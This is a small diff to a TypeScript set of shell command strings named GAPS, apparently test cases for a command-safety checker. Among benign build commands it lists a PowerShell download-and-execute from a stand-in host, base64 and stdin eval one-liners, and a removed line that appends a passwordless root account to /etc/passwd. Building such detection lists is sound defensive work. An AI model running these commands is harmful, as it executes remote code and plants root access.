@@ -16,7 +16,6 @@ export const GAPS: ReadonlySet<string> = new Set([
   "iex ((New-Object Net.WebClient).DownloadString('https://evil.example'))",
   "python3 -c \"exec(__import__('base64').b64decode('$X'))\"",
   "perl -e 'eval <STDIN>' < x",
-  "ed /etc/passwd <<< $'a\\nx::0:0:::\\n.\\nw'",
   "helmfile deps",
   "krew install ctx",
   "eas build --platform ios",
